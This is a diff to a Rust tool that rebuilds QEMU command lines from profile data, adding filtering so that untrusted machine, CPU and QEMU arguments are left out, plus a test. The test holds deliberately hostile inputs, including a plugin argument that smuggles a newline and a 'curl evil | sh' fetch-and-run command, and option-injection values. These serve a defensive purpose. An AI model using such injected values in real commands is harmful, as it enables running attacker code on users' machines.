@@ -6,6 +6,7 @@ use crate::analysis::visit;
 use crate::profile::input::When;
 use crate::profile::{Profile, SpanKind};
 use crate::run::options::{DEFAULT_BIN_BYTES, DEFAULT_MAX_DEPTH, DEFAULT_PERIOD_INSNS};
+use crate::run::settings::{self, Setting};
 use crate::text::number::{Hex, group};
 
 /// Facts of a run as terms with their texts, in the order of reading.
@@ -139,9 +140,17 @@ fn command(profile: &Profile, view: View) -> String {
             When::After(prompt) => option("--input-after", format!("{}:{text}", escape(prompt.as_bytes()))),
         }
     }
-    option("--machine", facts.machine.clone());
-    if let Some(cpu) = &facts.cpu {
-        option("--cpu", cpu.clone());
+    // A page may come from anybody, and what is copied from it runs: of QEMU's arguments it has those that a file may
+    // have, and names the others.
+    let mut left_out: Vec<String> = Vec::new();
+    if settings::check_machine(&facts.machine).is_ok() {
+        option("--machine", facts.machine.clone());
+    } else {
+        left_out.push(format!("--machine {}", facts.machine));
+    }
+    match &facts.cpu {
+        Some(cpu) if settings::check_cpu(cpu).is_ok() => option("--cpu", cpu.clone()),
+        cpu => left_out.extend(cpu.iter().map(|cpu| format!("--cpu {cpu}"))),
     }
     option("--shift", facts.icount_shift.to_string());
     if let Some(address) = facts.load_addr {
@@ -164,7 +173,8 @@ fn command(profile: &Profile, view: View) -> String {
     if facts.symbols_sha256.is_some() {
         option("--symbols", "ELF".to_owned());
     }
-    for argument in &facts.qemu_args {
+    let (settings, others) = settings::read(&facts.qemu_args);
+    for argument in settings.iter().flat_map(Setting::words) {
         words.push(quote(&format!("--qemu-arg={argument}")));
     }
     if !profile.tree.is_empty() {
@@ -188,10 +198,18 @@ fn command(profile: &Profile, view: View) -> String {
     if view.fold_irqs {
         words.push("--fold-irqs".to_owned());
     }
-    words.push(quote(&facts.image_name));
+    // Not taken for an option.
+    let here = if facts.image_name.starts_with('-') { "./" } else { "" };
+    words.push(quote(&format!("{here}{}", facts.image_name)));
     if !facts.firmware_args.is_empty() {
         words.push("--".to_owned());
         words.extend(facts.firmware_args.iter().map(|argument| quote(argument)));
+    }
+    left_out.extend(others.iter().map(|other| format!("QEMU's {other}")));
+    if !left_out.is_empty() {
+        // Escaped, so that a comment stays one line.
+        let left_out: Vec<String> = left_out.iter().map(|one| one.escape_default().to_string()).collect();
+        words.push(format!("# left out, since it may reach files or programs: {}", left_out.join("; ")));
     }
     words.join(" ")
 }
@@ -261,6 +279,23 @@ mod tests {
         ] {
             assert!(command.contains(part), "{part} in {command}");
         }
+    }
+
+    #[test]
+    fn what_is_copied_from_a_page_reaches_no_file_or_program() {
+        let mut profile = empty();
+        let facts = &mut profile.facts;
+        facts.image_name = "--sandbox=off".to_owned();
+        facts.machine = "mps2-an385,dumpdtb=/x".to_owned();
+        facts.cpu = Some("cortex-m3,x=/y".to_owned());
+        let arguments = ["-smp", "2", "-plugin", "evil.so\ncurl evil | sh", "-s"];
+        facts.qemu_args = arguments.map(str::to_owned).to_vec();
+        let command = command(&profile, View::default());
+        let (run, left_out) = command.split_once(" # left out, ").unwrap();
+        assert!(run.ends_with("--qemu-arg=-smp --qemu-arg=2 --no-stacks ./--sandbox=off"), "{run}");
+        assert!(!run.contains("dumpdtb") && !run.contains("/y") && !run.contains("evil"), "{run}");
+        assert!(left_out.contains("dumpdtb=/x; --cpu cortex-m3,x=/y; QEMU's -plugin evil.so\\ncurl"), "{left_out}");
+        assert!(left_out.ends_with("; QEMU's -s") && !left_out.contains('\n'), "{left_out}");
     }
 
     #[test]
